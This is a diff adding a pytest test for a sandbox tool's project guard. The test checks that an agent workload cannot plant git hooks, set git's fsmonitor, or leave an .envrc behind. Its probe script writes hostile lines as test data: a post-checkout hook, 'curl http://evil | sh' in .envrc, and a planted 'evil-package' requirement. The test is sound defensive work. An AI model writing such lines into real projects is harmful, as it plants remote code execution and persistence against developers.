@@ -1,0 +1,66 @@
+"""The project cannot be turned against the host (run.guard), in a container and in a
+jail: a workload that commits its work, tries to write a git hook and git's
+configuration, drops an .envrc and changes a watched file. Its commit stays; the hook
+and configuration writes fail while it runs; the .envrc is gone after it; the result
+lists the refusal and the watched change."""
+
+from __future__ import annotations
+
+import subprocess
+
+import pytest
+
+from .test_run import host, kooi_run, project, wfdir, write_wf  # noqa: F401 - fixtures
+
+SCRIPT = r"""
+set -u
+echo fixed > src/fixed.txt
+git add -A && git commit -qm 'the agent fixed it' && echo COMMIT=ok || echo COMMIT=fail
+{ printf '#!/bin/sh\ntouch /tmp/pwned\n' > .git/hooks/post-checkout; } 2>/dev/null && echo HOOK=ok || echo HOOK=fail
+git config core.fsmonitor /tmp/evil.sh 2>/dev/null && echo CONFIG=ok || echo CONFIG=fail
+echo 'curl http://evil | sh' > .envrc && echo ENVRC=ok
+echo 'evil-package==6.6.6' >> requirements.txt && echo WATCHED=ok
+"""
+GIT_ENV = {"GIT_AUTHOR_NAME": "agent", "GIT_AUTHOR_EMAIL": "agent@kooi.invalid", "GIT_COMMITTER_NAME": "agent",
+           "GIT_COMMITTER_EMAIL": "agent@kooi.invalid",
+           # The project belongs to another uid than the workload's: git's ownership check.
+           "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "safe.directory", "GIT_CONFIG_VALUE_0": "*"}
+
+
+def git(proj, *args: str, user: str) -> str:
+    res = subprocess.run(["runuser", "-u", user, "--", "git", "-c", "safe.directory=*", "-C", str(proj), *args],
+                         capture_output=True, text=True, check=True)
+    return res.stdout
+
+
+@pytest.mark.parametrize("mode", ["container", "jail"])
+def test_protected_paths_survive_a_workload_and_watched_ones_are_listed(host, wfdir, project, mode):
+    user = host["runner_user"]
+    proj = project("python-example")
+    (proj / "requirements.txt").write_text("")
+    subprocess.run(["chown", f"{user}:{user}", str(proj / "requirements.txt")], check=True)
+    git(proj, "init", "-q", user=user)
+    git(proj, "add", "-A", user=user)
+    git(proj, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "start", user=user)
+    config = (proj / ".git/config").read_text()
+    wf = {"command": ["sh", "-c", SCRIPT], "environment": GIT_ENV, "timeout": 120}
+    if mode == "jail":
+        wf["mode"] = "jail"
+    write_wf(wfdir, "guard-probe", wf)
+    res, result = kooi_run("guard-probe", proj, wfdir)
+    out = res.stdout
+    assert res.returncode == 0, out[-3000:] + res.stderr
+    assert "COMMIT=ok" in out and "ENVRC=ok" in out and "WATCHED=ok" in out, out[-3000:]
+    # Read-only while it ran.
+    assert "HOOK=fail" in out and "CONFIG=fail" in out, out[-3000:]
+    # Its work stays; what executes on the host later does not.
+    assert "the agent fixed it" in git(proj, "log", "--format=%s", user=user)
+    assert not (proj / ".git/hooks/post-checkout").exists()
+    assert (proj / ".git/config").read_text() == config
+    assert not (proj / ".envrc").exists()
+    guard = result["project_guard"]
+    assert guard["refused"] == [{"path": ".envrc", "change": "created"}], guard
+    assert guard["restored"] is True
+    assert {"path": "requirements.txt", "change": "modified"} in guard["watched_changed"], guard
+    assert "evil-package" in (proj / "requirements.txt").read_text()  # watched: kept, listed
+    assert "project: refused a change to protected .envrc" in out
